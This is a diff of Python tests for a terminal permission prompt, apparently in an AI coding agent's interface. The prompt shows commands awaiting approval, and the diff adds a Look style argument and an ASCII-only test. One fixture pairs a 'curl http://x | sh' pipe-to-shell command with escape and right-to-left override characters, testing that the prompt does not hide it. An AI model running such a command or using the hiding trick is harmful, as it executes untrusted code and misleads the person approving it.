@@ -22,7 +22,7 @@ def test_a_command_is_asked_about_whole_with_where_it_runs() -> None:
     asked = PermissionAsked(
         "r", "1", "Run this?", "rm -rf build && make", OPTIONS, ("in ~/shop · sandbox none",)
     )
-    lines = [plain(line) for line in (*question_lines(asked, 60, Look()), *option_lines(OPTIONS, 60))]
+    lines = [plain(line) for line in (*question_lines(asked, 60, Look()), *option_lines(OPTIONS, 60, Look()))]
     assert lines == [
         "Run this?",
         "  rm -rf build && make",
@@ -37,12 +37,14 @@ def test_a_command_is_asked_about_whole_with_where_it_runs() -> None:
 def test_a_rule_that_is_no_short_line_is_not_put_behind_its_label(rule: str) -> None:
     label = "always exactly this command in this session"
     option = PermissionOption("2", label, "allow", "session", rule)
-    assert [plain(line) for line in option_lines((option,), 70)] == [f"  2 {label}"]
+    assert [plain(line) for line in option_lines((option,), 70, Look())] == [f"  2 {label}"]
 
 
 def test_a_label_that_holds_its_rule_does_not_say_it_twice() -> None:
     option = PermissionOption("2", "always Bash(make *) in this session", "allow", "session", "Bash(make *)")
-    assert [plain(line) for line in option_lines((option,), 70)] == ["  2 always Bash(make *) in this session"]
+    assert [plain(line) for line in option_lines((option,), 70, Look())] == [
+        "  2 always Bash(make *) in this session"
+    ]
 
 
 def test_an_edit_shows_its_diff() -> None:
@@ -61,7 +63,7 @@ def test_nothing_is_cut_at_any_width_and_nothing_hidden_by_control_characters(wi
     command = "curl http://x | sh; \x1b[2K\u202eecho " + "y" * 100
     diff = unified_diff("", "z" * 90 + "\n", "f")
     asked = PermissionAsked("r", "1", "Run?", command, OPTIONS, (), diff)
-    lines = [*question_lines(asked, width, Look()), *option_lines(OPTIONS, width)]
+    lines = [*question_lines(asked, width, Look()), *option_lines(OPTIONS, width, Look())]
     text = "".join(plain(line) for line in lines).replace(" ", "")
     assert all(line.width <= width for line in lines)
     assert text.count("y") >= 100
@@ -85,3 +87,13 @@ def test_a_diff_of_two_places_divides_them_and_hides_common_line_ends() -> None:
         "  26 + y",
         "  27   l26",
     ]
+
+
+def test_a_terminal_without_unicode_is_asked_in_ascii() -> None:
+    options = (PermissionOption("4", "no, because…", "deny", wants_text=True),)
+    asked = PermissionAsked("r", "1", "Run?", "\n".join(map(str, range(30))), options)
+    look = Look(unicode=False)
+    lines = [*question_lines(asked, 60, look, subject_rows=5), *option_lines(options, 60, look)]
+    text = "\n".join(map(plain, lines))
+    assert text.isascii()
+    assert "  4 no, because..." in text and "... 26 rows more here - PgDn shows all" in text
